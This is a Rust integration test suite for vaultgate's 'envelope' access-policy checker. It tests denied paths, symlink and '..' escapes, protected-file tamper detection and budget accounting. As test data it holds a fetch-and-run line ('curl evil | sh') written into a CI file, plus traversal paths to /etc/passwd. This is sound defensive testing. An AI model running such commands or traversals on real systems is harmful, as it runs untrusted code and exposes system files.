//! End-to-end tests of `vaultgate envelope` through the real binary, on real files and real
//! symlinks in temporary folders.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::{json_of, vg, write};
use serde_json::Value;

const ENVELOPE: &str = r#"{
    "allow_ops": ["read", "list", "exec", "write", "create", "delete", "rename", "chmod"],
    "allow_paths": ["src/**", "docs/*.md", "secrets/**", "ci/**", "envelope.json"],
    "deny_paths": ["secrets", "**/*.pem"],
    "protected_paths": ["ci/**", "docs/policy.md"],
    "max_budget_usd": 1.001
}"#;

/// A temporary project: root folder with an envelope and a few files.
struct Project {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Project {
    fn new(envelope: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        write(&root, "envelope.json", envelope);
        write(&root, "src/main.rs", "fn main() {}");
        write(&root, "src/lib/util.rs", "// util");
        write(&root, "secrets/token", "hunter2");
        write(&root, "ci/build.yml", "steps: []");
        write(&root, "docs/policy.md", "policy");
        write(&root, "docs/guide.md", "guide");
        Self { _dir: dir, root }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }

    /// `vaultgate --json envelope check --envelope envelope.json --root ROOT --op OP --path P…`
    fn check(&self, op: &str, paths: &[&str], extra: &[&str]) -> Output {
        let mut cmd = vg();
        cmd.current_dir(&self.root)
            .args(["--json", "envelope", "check", "--envelope", "envelope.json"])
            .args(["--op", op]);
        for p in paths {
            cmd.args(["--path", p]);
        }
        cmd.args(extra).output().unwrap()
    }

    fn protect(&self, sub: &str, extra: &[&str]) -> Output {
        vg().current_dir(&self.root)
            .args([
                "--json",
                "envelope",
                "protect",
                sub,
                "--envelope",
                "envelope.json",
            ])
            .args(extra)
            .output()
            .unwrap()
    }
}

fn codes(out: &Output) -> Vec<String> {
    json_of(out)["findings"]
        .as_array()
        .unwrap_or_else(|| panic!("no findings in {}", String::from_utf8_lossy(&out.stdout)))
        .iter()
        .map(|f| f["code"].as_str().unwrap().to_owned())
        .collect()
}

fn exit(out: &Output) -> i32 {
    out.status.code().unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn an_allowed_operation_exits_0_with_a_versioned_report() {
    let p = Project::new(ENVELOPE);
    let out = p.check("write", &["src/main.rs", "src/new.rs"], &["--cost", "0.5"]);
    assert_eq!(exit(&out), 0, "{}", stderr(&out));
    let doc = json_of(&out);
    assert_eq!(doc["schema"], "vaultgate/envelope/v1");
    assert_eq!(doc["decision"], "allow");
    assert_eq!(doc["summary"]["verdict"], "pass");
    assert_eq!(doc["summary"]["exit_code"], 0);
    assert_eq!(doc["budget"]["cost_usd"].to_string(), "0.5");
    assert_eq!(doc["findings"], Value::Array(Vec::new()));
}

#[test]
fn text_output_names_the_decision() {
    let p = Project::new(ENVELOPE);
    vg().current_dir(&p.root)
        .args(["envelope", "check", "--envelope", "envelope.json", "--op", "read"])
        .args(["--path", "secrets/token"])
        .assert()
        .code(1)
        .stdout(predicates::str::contains(
            "error[envelope-path-denied] `secrets/token` lies under `secrets`, which matches deny glob `secrets`",
        ))
        .stdout(predicates::str::contains("DENY: envelope denies `read`"));
}

#[test]
fn an_op_missing_from_allow_ops_is_denied() {
    let p = Project::new(&ENVELOPE.replace(r#""exec", "#, ""));
    let out = p.check("exec", &["src/main.rs"], &[]);
    assert_eq!(exit(&out), 1);
    assert_eq!(codes(&out), ["envelope-op-not-allowed"]);
}

#[test]
fn a_path_matching_no_allow_glob_is_denied() {
    let p = Project::new(ENVELOPE);
    let out = p.check("read", &["README.md", "docs/deep/x.md"], &[]);
    assert_eq!(exit(&out), 1);
    assert_eq!(
        codes(&out),
        ["envelope-path-not-allowed", "envelope-path-not-allowed"]
    );
}

#[test]
fn deny_wins_over_allow() {
    let p = Project::new(ENVELOPE);
    // `secrets/**` is in allow_paths; the deny glob `secrets` still wins.
    let out = p.check("read", &["secrets/token"], &[]);
    assert_eq!(exit(&out), 1);
    assert_eq!(codes(&out), ["envelope-path-denied"]);
    let out = p.check("read", &["src/lib/server.pem"], &[]);
    assert_eq!(codes(&out), ["envelope-path-denied"]);
}

#[test]
fn case_and_unicode_variants_cannot_dodge_a_deny() {
    let p = Project::new(&ENVELOPE.replace(r#""**/*.pem""#, r#""**/*.pem", "caf\u00e9/**""#));
    for variant in [
        "SECRETS/token",
        "Secrets/new",
        "src/KEY.PEM",
        "cafe\u{301}/menu",
        "CAFÉ/menu",
    ] {
        let out = p.check("read", &[variant], &[]);
        assert_eq!(exit(&out), 1, "{variant}");
        assert!(
            codes(&out).contains(&"envelope-path-denied".to_owned()),
            "{variant}"
        );
    }
}

#[test]
fn dot_dot_escapes_are_outside_the_root() {
    let p = Project::new(ENVELOPE);
    let out = p.check("read", &["src/../../etc/passwd"], &[]);
    assert_eq!(exit(&out), 1);
    assert_eq!(codes(&out), ["envelope-path-outside-root"]);
    let out = p.check("read", &["/etc/passwd"], &[]);
    assert_eq!(codes(&out), ["envelope-path-outside-root"]);
    let out = p.check("read", &["src/lib/../main.rs"], &[]);
    assert_eq!(exit(&out), 0, "`..` that stays inside is fine");
}

#[test]
fn symlinks_into_denied_or_outside_folders_are_denied() {
    let p = Project::new(ENVELOPE);
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "loot.txt", "x");
    symlink("../secrets/token", p.path("src/innocent.rs")).unwrap();
    symlink(outside.path(), p.path("src/elsewhere")).unwrap();
    symlink("../secrets", p.path("src/lib2")).unwrap();

    let out = p.check("read", &["src/innocent.rs"], &[]);
    assert_eq!(exit(&out), 1);
    assert_eq!(codes(&out), ["envelope-path-denied"]);
    let doc = json_of(&out);
    assert_eq!(doc["paths"][0]["physical"], "secrets/token");
    assert!(
        doc["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("resolves to `secrets/token`")
    );

    let out = p.check("read", &["src/elsewhere/loot.txt"], &[]);
    assert_eq!(codes(&out), ["envelope-path-outside-root"]);
    // A file that does not exist yet, created through a link into a denied folder.
    let out = p.check("create", &["src/lib2/new-key"], &[]);
    assert_eq!(codes(&out), ["envelope-path-denied"]);
}

#[test]
fn a_symlink_loop_cannot_be_judged() {
    let p = Project::new(ENVELOPE);
    symlink("b", p.path("src/a")).unwrap();
    symlink("a", p.path("src/b")).unwrap();
    let out = p.check("read", &["src/a"], &[]);
    assert_eq!(exit(&out), 2);
    assert!(
        stderr(&out).contains("cannot resolve path `src/a`"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn protected_files_refuse_every_mutating_op() {
    let p = Project::new(ENVELOPE);
    for (op, mutating) in [
        ("read", false),
        ("list", false),
        ("exec", false),
        ("write", true),
        ("create", true),
        ("delete", true),
        ("rename", true),
        ("chmod", true),
    ] {
        let out = p.check(op, &["ci/build.yml"], &[]);
        if mutating {
            assert_eq!(exit(&out), 1, "{op}");
            assert_eq!(codes(&out), ["envelope-path-protected"], "{op}");
        } else {
            assert_eq!(
                exit(&out),
                0,
                "{op}: {}",
                String::from_utf8_lossy(&out.stdout)
            );
        }
    }
}

#[test]
fn the_envelope_and_its_baseline_are_always_protected() {
    let p = Project::new(ENVELOPE);
    let out = p.check("write", &["envelope.json"], &[]);
    assert_eq!(codes(&out), ["envelope-path-protected"]);
    assert!(
        json_of(&out)["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("the envelope itself")
    );
    // Reached through a symlink in an allowed folder.
    symlink("../envelope.json", p.path("src/env-link")).unwrap();
    let out = p.check("chmod", &["src/env-link"], &[]);
    assert!(codes(&out).contains(&"envelope-path-protected".to_owned()));
    // Deleting a folder that contains protected files.
    let out = p.check("delete", &["ci"], &[]);
    assert!(codes(&out).contains(&"envelope-path-protected".to_owned()));
    // Renaming onto a protected path.
    let out = p.check("rename", &["src/main.rs", "docs/policy.md"], &[]);
    assert_eq!(codes(&out), ["envelope-path-protected"]);
}

#[test]
fn every_reason_is_listed_at_once() {
    let p = Project::new(&ENVELOPE.replace(r#""delete", "#, ""));
    let out = p.check(
        "delete",
        &["secrets/token", "../x", "ci/build.yml"],
        &["--cost", "5"],
    );
    assert_eq!(exit(&out), 1);
    assert_eq!(
        codes(&out),
        [
            "envelope-op-not-allowed",
            "envelope-path-denied",
            "envelope-path-outside-root",
            "envelope-path-protected",
            "envelope-budget-exceeded",
        ]
    );
}

#[test]
fn cost_arithmetic_is_exact_and_refuses_rounding() {
    let p = Project::new(ENVELOPE);
    assert_eq!(
        exit(&p.check("read", &["src/main.rs"], &["--cost", "1.001"])),
        0
    );
    let out = p.check("read", &["src/main.rs"], &["--cost", "1.001000001"]);
    assert_eq!(codes(&out), ["envelope-budget-exceeded"]);
    for (bad, why) in [
        ("0.0000000001", "more than 9 decimal places"),
        ("-1", "cannot be negative"),
        ("1,5", "not a decimal number"),
        ("", "not a decimal number"),
    ] {
        let out = p.check("read", &["src/main.rs"], &["--cost", bad]);
        assert_eq!(exit(&out), 2, "{bad}");
        assert!(stderr(&out).contains(why), "{bad}: {}", stderr(&out));
    }
}

#[test]
fn envelope_errors_name_the_field_or_glob() {
    for (envelope, expected) in [
        (
            ENVELOPE.replace("\"max_budget_usd\"", "\"extra\": 1, \"max_budget_usd\""),
            "unknown field `extra`",
        ),
        (
            ENVELOPE.replace("\"docs/policy.md\"", "\"docs/[policy.md\""),
            "field `protected_paths`: bad glob `docs/[policy.md`",
        ),
        (
            ENVELOPE.replace("\"src/**\"", "\"/src/**\""),
            "field `allow_paths`: bad glob `/src/**`",
        ),
        (
            ENVELOPE.replace("1.001", "-0.5"),
            "field `max_budget_usd`: negative budget `-0.5`",
        ),
        (
            ENVELOPE.replace("1.001", "\"\""),
            "field `max_budget_usd`: is the string ``",
        ),
        (
            ENVELOPE.replace("1.001", "null"),
            "field `max_budget_usd`: is null",
        ),
        (
            ENVELOPE.replace("\"chmod\"", "\"chown\""),
            "field `allow_ops`: unknown op `chown`",
        ),
        (
            ENVELOPE.replace(",\n    \"max_budget_usd\": 1.001", ""),
            "missing field `max_budget_usd`",
        ),
    ] {
        let p = Project::new(&envelope);
        let out = p.check("read", &["src/main.rs"], &[]);
        assert_eq!(exit(&out), 2, "{expected}");
        assert!(
            stderr(&out).contains(expected),
            "{expected}: {}",
            stderr(&out)
        );
        assert_eq!(json_of(&out)["schema"], "vaultgate/error/v1");
    }
}

#[test]
fn usage_errors_exit_2() {
    let p = Project::new(ENVELOPE);
    let out = p.check("read", &[], &[]);
    assert_eq!(exit(&out), 2, "--path is required");
    let out = p.check("frobnicate", &["src/main.rs"], &[]);
    assert_eq!(exit(&out), 2);
    let out = p.check("read", &["src/main.rs"], &["--root", "no-such-folder"]);
    assert_eq!(exit(&out), 2);
    assert!(
        stderr(&out).contains("cannot use root `no-such-folder`"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn help_lists_examples_and_exit_codes() {
    for sub in [
        &["check"][..],
        &["protect", "snapshot"],
        &["protect", "verify"],
    ] {
        vg().arg("envelope")
            .args(sub)
            .arg("--help")
            .assert()
            .success()
            .stdout(predicates::str::contains("Examples:"))
            .stdout(predicates::str::contains("Exit codes:"));
    }
}

#[test]
fn a_baseline_reports_tampering_per_file() {
    let p = Project::new(ENVELOPE);
    let out = p.protect("snapshot", &[]);
    assert_eq!(exit(&out), 0, "{}", stderr(&out));
    let files: Vec<String> = json_of(&out)["files"]
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert_eq!(files, ["ci/build.yml", "docs/policy.md", "envelope.json"]);
    let baseline: Value =
        serde_json::from_slice(&std::fs::read(p.path("envelope.json.baseline.json")).unwrap())
            .unwrap();
    assert_eq!(baseline["schema"], "vaultgate/envelope-baseline/v1");
    assert_eq!(exit(&p.protect("verify", &[])), 0);

    std::fs::write(p.path("ci/build.yml"), "steps: [curl evil | sh]").unwrap();
    std::fs::remove_file(p.path("docs/policy.md")).unwrap();
    write(&p.root, "ci/new-step.yml", "x");
    write(&p.root, "src/main.rs", "unprotected edits are not reported");
    let out = p.protect("verify", &[]);
    assert_eq!(exit(&out), 1);
    assert_eq!(
        codes(&out),
        [
            "envelope-protected-changed",
            "envelope-protected-missing",
            "envelope-protected-added"
        ]
    );
    let doc = json_of(&out);
    let subjects: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["subject"].as_str().unwrap())
        .collect();
    assert_eq!(
        subjects,
        ["ci/build.yml", "docs/policy.md", "ci/new-step.yml"]
    );
}

#[test]
fn a_tampered_envelope_is_caught_by_verify() {
    let p = Project::new(ENVELOPE);
    let baseline = p.root.join("elsewhere.json");
    assert_eq!(
        exit(&p.protect("snapshot", &["--baseline", baseline.to_str().unwrap()])),
        0
    );
    // Loosen the envelope: still valid, no longer protects ci/**.
    std::fs::write(p.path("envelope.json"), ENVELOPE.replace("\"ci/**\", ", "")).unwrap();
    let out = p.protect("verify", &["--baseline", baseline.to_str().unwrap()]);
    assert_eq!(exit(&out), 1);
    assert_eq!(json_of(&out)["findings"][0]["subject"], "envelope.json");
}

#[test]
fn a_failed_snapshot_leaves_the_old_baseline_untouched() {
    let p = Project::new(ENVELOPE);
    assert_eq!(exit(&p.protect("snapshot", &[])), 0);
    let before = std::fs::read(p.path("envelope.json.baseline.json")).unwrap();
    // A protected FIFO cannot be fingerprinted: the snapshot fails as a whole.
    std::fs::create_dir(p.path("ci/fifo-dir")).unwrap();
    let fifo = p.path("ci/fifo-dir/pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let out = p.protect("snapshot", &[]);
    assert_eq!(exit(&out), 2, "{}", String::from_utf8_lossy(&out.stdout));
    assert!(
        stderr(&out).contains("neither a file nor a symlink"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read(p.path("envelope.json.baseline.json")).unwrap(),
        before
    );
    let leftovers: Vec<_> = std::fs::read_dir(&p.root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".vaultgate-tmp-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn verify_without_a_baseline_cannot_run() {
    let p = Project::new(ENVELOPE);
    let out = p.protect("verify", &[]);
    assert_eq!(exit(&out), 2);
    assert!(
        stderr(&out).contains("no baseline at `envelope.json.baseline.json`"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("help: record one first"));
}

/// Paths are judged relative to `--root`, wherever the command runs from.
#[test]
fn root_option_anchors_relative_paths() {
    let p = Project::new(ENVELOPE);
    let out = vg()
        .args([
            "--json",
            "envelope",
            "check",
            "--op",
            "read",
            "--path",
            "src/main.rs",
        ])
        .arg("--envelope")
        .arg(p.path("envelope.json"))
        .arg("--root")
        .arg(&p.root)
        .current_dir(Path::new("/"))
        .output()
        .unwrap();
    assert_eq!(exit(&out), 0, "{}", stderr(&out));
}

// ---- budgets read from a journal, decisions recorded in it ----

/// `vaultgate journal append FILE --name N --status ok --outputs JSON`.
fn journal_append(root: &Path, file: &str, outputs: &str) {
    vg().current_dir(root)
        .args([
            "journal", "append", file, "--name", "spend", "--status", "ok",
        ])
        .args(["--outputs", outputs])
        .assert()
        .success();
}

fn journal_lines(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn a_thousand_small_costs_are_summed_exactly() {
    // 1000 × 0.001 spent + 0.001 requested: exactly 1.001, within a 1.001 budget and over a
    // 1.000 one. Floats would drift here.
    let p = Project::new(ENVELOPE);
    // Chained with the journal's own hashing and canonical lines, written in one go (a
    // thousand locked, fsynced appends would take half a minute), then verified by the binary.
    let mut bytes = Vec::new();
    let mut prev: Option<String> = None;
    for i in 0..1000 {
        let mut outputs = serde_json::Map::new();
        outputs.insert("cost_usd".into(), serde_json::from_str("0.001").unwrap());
        let mut rec = vaultgate::journal::Record {
            step_id: format!("step-{i}"),
            name: "llm-call".into(),
            status: "ok".into(),
            started_at: "2026-01-02T03:04:05Z".into(),
            completed_at: None,
            inputs: serde_json::Map::new(),
            outputs,
            prev_hash: prev.clone(),
            entry_hash: String::new(),
        };
        rec.entry_hash = rec.compute_hash().unwrap();
        bytes.extend(rec.to_line().unwrap());
        prev = Some(rec.entry_hash);
    }
    std::fs::write(p.path("build.jsonl"), bytes).unwrap();
    vg().args(["journal", "verify"])
        .arg(p.path("build.jsonl"))
        .assert()
        .success();
    // And one step through the binary, without any cost: counts as zero.
    journal_append(&p.root, "build.jsonl", r#"{"note": "free"}"#);
    let args = ["--cost", "0.001", "--journal", "build.jsonl"];
    let out = p.check("read", &["src/main.rs"], &args);
    assert_eq!(exit(&out), 0, "{}", stderr(&out));
    assert_eq!(json_of(&out)["budget"]["spent_usd"].to_string(), "1");

    std::fs::write(p.path("envelope.json"), ENVELOPE.replace("1.001", "1.000")).unwrap();
    let out = p.check("read", &["src/main.rs"], &args);
    assert_eq!(exit(&out), 1);
    assert_eq!(codes(&out), ["envelope-budget-exceeded"]);
}

#[test]
fn record_appends_allowed_and_violation_steps() {
    let p = Project::new(ENVELOPE);
    journal_append(&p.root, "j.jsonl", r#"{"cost_usd": 0.5}"#);
    let record = ["--journal", "j.jsonl", "--record", "--cost", "0.25"];
    assert_eq!(exit(&p.check("read", &["src/main.rs"], &record)), 0);
    assert_eq!(exit(&p.check("read", &["secrets/token"], &record)), 1);

    let lines = journal_lines(&p.path("j.jsonl"));
    assert_eq!(lines.len(), 3);
    let allowed = &lines[1];
    assert_eq!(allowed["name"], "envelope-check");
    assert_eq!(allowed["status"], "allowed");
    assert_eq!(allowed["inputs"]["op"], "read");
    assert_eq!(allowed["inputs"]["paths"][0], "src/main.rs");
    assert_eq!(allowed["outputs"]["cost_usd"].to_string(), "0.25");
    let denied = &lines[2];
    assert_eq!(denied["status"], "violation");
    assert_eq!(denied["inputs"]["cost_usd"].to_string(), "0.25");
    assert!(
        denied["outputs"].get("cost_usd").is_none(),
        "a denied op spent nothing"
    );
    assert_eq!(denied["outputs"]["findings"][0], "envelope-path-denied");
    // The journal still verifies, and only the allowed cost counts: 0.5 + 0.25.
    vg().args(["journal", "verify"])
        .arg(p.path("j.jsonl"))
        .assert()
        .success();
    let out = p.check("read", &["src/main.rs"], &["--journal", "j.jsonl"]);
    assert_eq!(json_of(&out)["budget"]["spent_usd"].to_string(), "0.75");
}

#[test]
fn the_budget_journal_is_protected() {
    let p = Project::new(&ENVELOPE.replace(r#""envelope.json""#, r#""envelope.json", "*.jsonl""#));
    journal_append(&p.root, "j.jsonl", "{}");
    let out = p.check("write", &["j.jsonl"], &["--journal", "j.jsonl"]);
    assert_eq!(codes(&out), ["envelope-path-protected"]);
    assert!(
        json_of(&out)["findings"][0]["message"]
            .as_str()
            .unwrap()
            .contains("the budget journal")
    );
    assert_eq!(
        exit(&p.check("read", &["j.jsonl"], &["--journal", "j.jsonl"])),
        0
    );
}

#[test]
fn an_unusable_journal_means_no_decision_and_no_write() {
    let p = Project::new(ENVELOPE);
    let record = ["--journal", "j.jsonl", "--record"];
    // Missing: the spent budget is unknown (deleting the journal must not reset it).
    let out = p.check("read", &["src/main.rs"], &record);
    assert_eq!(exit(&out), 2);
    assert!(
        stderr(&out).contains("budget journal `j.jsonl` does not exist"),
        "{}",
        stderr(&out)
    );
    assert!(!p.path("j.jsonl").exists());

    // Tampered: refused, and left exactly as it was.
    journal_append(&p.root, "j.jsonl", r#"{"cost_usd": 0.1}"#);
    let tampered = std::fs::read_to_string(p.path("j.jsonl"))
        .unwrap()
        .replace("0.1", "0.0");
    std::fs::write(p.path("j.jsonl"), &tampered).unwrap();
    let out = p.check("read", &["src/main.rs"], &record);
    assert_eq!(exit(&out), 2, "{}", String::from_utf8_lossy(&out.stdout));
    assert_eq!(
        std::fs::read_to_string(p.path("j.jsonl")).unwrap(),
        tampered
    );

    // Ill-typed cost: refused by step id.
    std::fs::remove_file(p.path("j.jsonl")).unwrap();
    journal_append(&p.root, "j.jsonl", r#"{"cost_usd": "0.1"}"#);
    let before = std::fs::read(p.path("j.jsonl")).unwrap();
    let out = p.check("read", &["src/main.rs"], &record);
    assert_eq!(exit(&out), 2);
    assert!(
        stderr(&out).contains("unusable `outputs.cost_usd`"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read(p.path("j.jsonl")).unwrap(), before);
}

#[test]
fn record_requires_a_journal() {
    let p = Project::new(ENVELOPE);
    let out = p.check("read", &["src/main.rs"], &["--record"]);
    assert_eq!(exit(&out), 2);
}

/// Regression: the spent budget was read under one lock and the decision appended under
/// another, so concurrent `--record` checks could each see the same total and together spend
/// past the budget. Eight checks of 0.30 race for a 1.001 budget: exactly three may be allowed,
/// whatever the interleaving, and the journal stays a valid chain.
#[test]
fn concurrent_recorded_checks_never_overspend() {
    let p = Project::new(ENVELOPE);
    journal_append(&p.root, "j.jsonl", r#"{"note": "start"}"#);
    let bin = assert_cmd::cargo::cargo_bin("vaultgate");
    let children: Vec<_> = (0..8)
        .map(|_| {
            std::process::Command::new(&bin)
                .current_dir(&p.root)
                .args([
                    "envelope",
                    "check",
                    "--envelope",
                    "envelope.json",
                    "--op",
                    "read",
                ])
                .args([
                    "--path",
                    "src/main.rs",
                    "--cost",
                    "0.30",
                    "--journal",
                    "j.jsonl",
                    "--record",
                    "-q",
                ])
                .spawn()
                .unwrap()
        })
        .collect();
    let codes: Vec<i32> = children
        .into_iter()
        .map(|c| c.wait_with_output().unwrap().status.code().unwrap())
        .collect();
    assert_eq!(
        codes.iter().filter(|&&c| c == 0).count(),
        3,
        "exit codes: {codes:?}"
    );
    assert_eq!(
        codes.iter().filter(|&&c| c == 1).count(),
        5,
        "exit codes: {codes:?}"
    );
    let lines = journal_lines(&p.path("j.jsonl"));
    let allowed: Vec<&Value> = lines.iter().filter(|l| l["status"] == "allowed").collect();
    assert_eq!(allowed.len(), 3);
    assert!(
        allowed
            .iter()
            .all(|l| l["outputs"]["cost_usd"] == serde_json::from_str::<Value>("0.3").unwrap())
    );
    assert_eq!(
        lines.iter().filter(|l| l["status"] == "violation").count(),
        5
    );
    vg().args(["journal", "verify"])
        .arg(p.path("j.jsonl"))
        .assert()
        .success();
}

/// Every op, every path allowed; `ci/**` and `docs/policy.md` protected.
const OPEN_ENVELOPE: &str = r#"{
    "allow_ops": ["read", "list", "exec", "write", "create", "delete", "rename", "chmod"],
    "allow_paths": ["**", "."],
    "deny_paths": [],
    "protected_paths": ["ci/**", "docs/policy.md"],
    "max_budget_usd": 1
}"#;

/// Regression (issue 8 §3): the always-protected files were compared byte for byte while the
/// protected globs match case-insensitively, so `ENVELOPE.JSON` (the envelope itself on a
/// case-insensitive file system) could be written. Every case variant is refused now.
#[test]
fn case_variants_of_the_envelope_baseline_and_journal_are_protected() {
    let p = Project::new(OPEN_ENVELOPE);
    journal_append(&p.root, "budget.jsonl", "{}");
    for variant in [
        "ENVELOPE.JSON",
        "Envelope.json",
        "envelope.json.BASELINE.json",
        "ENVELOPE.JSON.baseline.json",
        "BUDGET.JSONL",
    ] {
        for op in ["write", "create", "delete", "rename", "chmod"] {
            let out = p.check(op, &[variant], &["--journal", "budget.jsonl"]);
            assert_eq!(exit(&out), 1, "{op} {variant}: {}", stderr(&out));
            assert_eq!(codes(&out), ["envelope-path-protected"], "{op} {variant}");
        }
        let out = p.check("read", &[variant], &["--journal", "budget.jsonl"]);
        assert_eq!(exit(&out), 0, "read {variant}");
    }
}

/// Regression (issue 8 §3): with `protected_paths: ["ci/**"]`, `chmod ci`, `write ci` and
/// `chmod .` were allowed: only `delete` judged a folder's contents. A mutating op on a folder
/// that holds a protected path is refused; read-only ops (`read`, `list`, `exec`) change
/// nothing beneath it and stay allowed.
#[test]
fn mutating_a_folder_that_holds_protected_paths_is_refused() {
    let p = Project::new(OPEN_ENVELOPE);
    for (op, path) in [
        ("chmod", "ci"),
        ("write", "ci"),
        ("create", "ci"),
        ("rename", "ci"),
        ("delete", "ci"),
        ("chmod", "."),
        ("write", "."),
        ("chmod", "docs"),
    ] {
        let out = p.check(op, &[path], &[]);
        assert_eq!(exit(&out), 1, "{op} {path}: {}", stderr(&out));
        assert!(
            codes(&out).iter().all(|c| c == "envelope-path-protected"),
            "{op} {path}: {:?}",
            codes(&out)
        );
    }
    for op in ["read", "list", "exec"] {
        for path in ["ci", "."] {
            assert_eq!(exit(&p.check(op, &[path], &[])), 0, "{op} {path}");
        }
    }
    // A folder holding nothing protected may still be changed.
    assert_eq!(exit(&p.check("chmod", &["src/lib"], &[])), 0);
    // Reached through a symlink, the folder is still the protected one.
    symlink("../ci", p.path("src/ci-link")).unwrap();
    let out = p.check("chmod", &["src/ci-link"], &[]);
    assert_eq!(codes(&out), ["envelope-path-protected"]);
}

/// Regression (issue 7): an envelope error named the field but not where it is; like
/// cargo-deny's diagnostics, it now points at the line and column of the offending value,
/// for serde's shape errors and for semantic ones (a bad glob, an unknown op, a negative
/// budget) alike.
#[test]
fn envelope_errors_point_at_line_and_column() {
    for (envelope, expected) in [
        (
            ENVELOPE.replace("\"docs/policy.md\"", "\"docs/[policy.md\""),
            "`envelope.json` at line 5, column 34: field `protected_paths`: bad glob `docs/[policy.md`",
        ),
        (
            ENVELOPE.replace("\"chmod\"", "\"chown\""),
            "`envelope.json` at line 2, column 82: field `allow_ops`: unknown op `chown`",
        ),
        (
            ENVELOPE.replace("1.001", "-0.5"),
            "`envelope.json` at line 6, column 23: field `max_budget_usd`: negative budget",
        ),
        (
            ENVELOPE.replace("\"max_budget_usd\"", "\"extra\": 1, \"max_budget_usd\""),
            "`envelope.json` at line 6, column 11: unknown field `extra`",
        ),
    ] {
        let p = Project::new(&envelope);
        let out = p.check("read", &["src/main.rs"], &[]);
        assert_eq!(exit(&out), 2, "{expected}");
        assert!(
            stderr(&out).contains(expected),
            "{expected}: {}",
            stderr(&out)
        );
    }
}
